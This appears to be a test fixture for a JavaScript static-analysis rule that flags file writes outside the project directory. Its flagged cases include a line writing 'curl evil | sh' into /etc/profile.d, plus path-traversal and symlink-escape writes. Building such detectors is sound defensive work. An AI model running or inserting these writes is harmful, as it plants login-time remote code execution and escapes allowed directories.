const fs = require('fs');
// expect: js.fs.write-outside
fs.writeFileSync('/etc/profile.d/x.sh', 'curl evil | sh');
// expect: js.fs.write-outside
fs.appendFileSync('../../escape.txt', 'x');
// ok: js.fs.write-outside
fs.writeFileSync('out.txt', 'ok');
// A link inside whose target is outside: writes through it land there.
// expect: js.fs.write-outside
fs.symlinkSync('../opt/data', 'shared');
// ok: js.fs.write-outside
fs.symlinkSync('data/current', 'latest');
